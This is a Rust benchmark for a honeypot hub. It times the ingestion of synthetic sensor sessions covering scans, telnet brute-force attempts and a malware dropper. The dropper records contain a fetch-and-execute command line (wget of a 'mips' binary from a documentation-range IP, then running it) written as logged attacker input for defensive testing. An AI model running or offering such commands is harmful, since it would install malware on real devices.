//! How many sessions of sensors the hub takes in a second on one core: from the request with a batch of lines to the answer,
//! with the rows of the lake that are made of them. Records and lake are in memory.
//!
//! A session is its `flow` and its summary: two of five are scans, two try three passwords, one leaves a program.

#![allow(clippy::unwrap_used, reason = "a bench may fail")]

#[path = "../tests/it/client.rs"]
#[expect(dead_code, reason = "tests ask in more ways")]
mod client;
#[path = "../tests/it/world.rs"]
#[expect(dead_code, reason = "tests look at more of it")]
mod world;

use divan::counter::ItemsCount;

use crate::client::Ask;
use crate::world::{TOKYO, World};

/// Sessions whose lines fit into a batch.
const SESSIONS: u32 = 500;

fn main() {
    divan::main();
}

#[divan::bench(sample_count = 50)]
fn sessions_are_taken(bencher: divan::Bencher<'_, '_>) {
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
    let _inside = runtime.enter();
    let batch: String = (0..SESSIONS).map(session).collect();
    let ask = Ask::new("POST", "/komainu/v1/sensors/tokyo/records?epoch=000000000000000a&sequence=0", batch.as_bytes());
    bencher.counter(ItemsCount::new(SESSIONS)).with_inputs(World::with_sensors).bench_local_values(|world| {
        let answer = runtime.block_on(ask.send(&mut world.connect_as(Some(TOKYO))));
        assert_eq!(answer.status, 200);
        world
    });
}

/// The lines of a session, as a sensor writes them.
fn session(number: u32) -> String {
    let at = "2023-11-14T22:10:05.000000+0000";
    let common = format!(
        r#""src_ip":"192.0.{}.{}","src_port":40000,"dest_ip":"198.51.100.1","dest_port":23,"proto":"TCP","app_proto":"telnet","community_id":"1:LQU9qZlK+B5F3KDmev6m5PMibrg=","host":"tokyo""#,
        number / 250,
        number % 250
    );
    let head = |event: &str| format!(r#""timestamp":"{at}","flow_id":{number},"event_type":"{event}",{common}"#);
    let flow = format!(
        r#"{{{},"flow":{{"bytes_toserver":100,"bytes_toclient":300,"start":"{at}","end":"{at}","age":2,"state":"closed","reason":"timeout","alerted":false}}}}"#,
        head("flow")
    );
    let login = |user: &str, password: u32, accepted: bool| {
        format!(
            r#"{{"timestamp":"{at}","user":"{user}","password_hmac_sha256":"{password:064x}","accepted":{accepted}}}"#
        )
    };
    let command = |line: String| format!(r#"{{"timestamp":"{at}","line":"{line}"}}"#);
    let geo = r#""geo":{"country":"JP","asn":64500,"as_org":"Example"}"#;
    let rest = match number % 5 {
        0 | 1 => format!(r#""label":"scan","confidence":90,"attack_techniques":["T1595.001"],{geo}"#),
        2 | 3 => format!(
            r#""auth":[{},{},{}],"fingerprints":{{"telnet_options":"do1 will31 do3 will24","telnet_terminal":"xterm"}},"label":"bruteforce","confidence":80,"attack_techniques":["T1110.001"],"evidence":[{{"rule":"failed_login","side":"client","offset":0,"bytes":10}}],{geo}"#,
            login("root", number % 97, false),
            login("admin", number % 89, false),
            login("support", number % 83, false)
        ),
        _ => format!(
            r#""auth":[{}],"commands":[{},{},{},{}],"urls":[{{"url":"http://192.0.2.{}/mips","program":"wget"}}],"artifacts":[{{"timestamp":"{at}","sha256":"{:064x}","bytes":81234,"name":"mips","via":"shell","kind":"ELF","stored":true}}],"notes":["cleared_history"],"fingerprints":{{"telnet_options":"do1 will31"}},"label":"dropper","confidence":90,"attack_techniques":["T1059.004","T1105","T1078.001"],{geo}"#,
            login("root", number % 31, true),
            command("enable".to_owned()),
            command("shell".to_owned()),
            command(format!("/bin/busybox ABCD{}", number % 50)),
            command(format!(r#"cd /tmp; wget http://192.0.2.{}/mips; sh -c \"./mips\""#, number % 20)),
            number % 20,
            number % 13
        ),
    };
    let target = r#""target":{"kind":"emulated","persona":"camera","type":"ip_camera","model":"Example DB-1"}"#;
    let summary = format!(
        r#"{{{},"honeypot":{{"session":{{"id":"{number:032x}","start":"{at}","end":"{at}","duration_ms":1995,"ended":"closed"}},"sensor":{{"id":"tokyo"}},{target},{rest},"bytes_toserver":100,"bytes_toclient":300}}}}"#,
        head("honeypot")
    );
    format!("{{\"log\":\"eve\",\"line\":{flow}}}\n{{\"log\":\"honeypot\",\"line\":{summary}}}\n")
}
